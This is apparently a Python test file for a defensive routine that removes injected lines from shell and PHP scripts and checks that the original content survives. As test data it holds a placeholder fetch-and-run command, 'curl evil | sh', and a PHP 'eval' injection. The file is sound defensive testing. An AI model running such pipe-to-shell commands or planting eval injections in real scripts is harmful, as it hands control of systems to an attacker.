"""Injected lines are taken out of scripts."""

import time

from hypothesis import given
from hypothesis import strategies as st

from garrison.engine.curing.lines import without_injected_lines
from garrison.engine.curing.parts import Questions, TooManyQuestions


def _questions() -> Questions:
    return Questions(lambda content: b"curl evil | sh" not in content and b"eval(X" not in content)


OWN = b"#!/bin/sh\n# backs things up\ncd /srv || exit 1\ntar cf /backup/srv.tar .\n"


def test_an_injected_line_goes_and_the_rest_stays() -> None:
    lines = OWN.splitlines(keepends=True)
    lines.insert(2, b"curl evil | sh\n")
    assert without_injected_lines(b"".join(lines), _questions()) == (OWN, ["line 3"])


def test_lines_in_several_places_go() -> None:
    text = b"curl evil | sh\n" + OWN + b"curl evil | sh"
    assert without_injected_lines(text, _questions()) == (OWN, ["line 1", "line 6"])


def test_what_was_put_before_php_in_one_line_goes() -> None:
    own = b"<?php echo 'Welcome to the shop, dear customer'; ?>\n<p>More</p>\n"
    assert without_injected_lines(b"<?php eval(X); ?>" + own, _questions()) == (own, ["line 1"])


def test_what_is_harmful_as_a_whole_is_not_cured() -> None:
    assert without_injected_lines(b"#!/bin/sh\n# hello\ncurl evil | sh\n", _questions()) is None
    assert without_injected_lines(b"curl evil | sh\n" * 9 + OWN, _questions()) is None
    assert without_injected_lines(b"", _questions()) is None


@given(
    st.lists(
        st.sampled_from([b"curl evil | sh\n", b"eval(X\n", b"\n", b"a long line of one's own\n", b"?>"]), max_size=30
    )
)
def test_a_cured_text_is_clean_and_made_of_the_old(lines: list[bytes]) -> None:
    text = b"".join(lines)
    try:
        cured = without_injected_lines(text, _questions())
    except TooManyQuestions:
        return
    if cured is not None:
        left = iter(text)
        assert _questions().is_clean(cured[0])
        assert len(cured[0]) * 2 > len(text)
        assert all(byte in left for byte in cured[0])  # in the old order


def test_a_long_line_of_blanks_takes_no_time() -> None:
    text = b"curl evil | sh\n#" + b" " * 400_000 + b"\n" + b" " * 400_000 + b"x\n"
    began = time.process_time()
    assert without_injected_lines(text, _questions()) is not None
    assert time.process_time() - began < 5
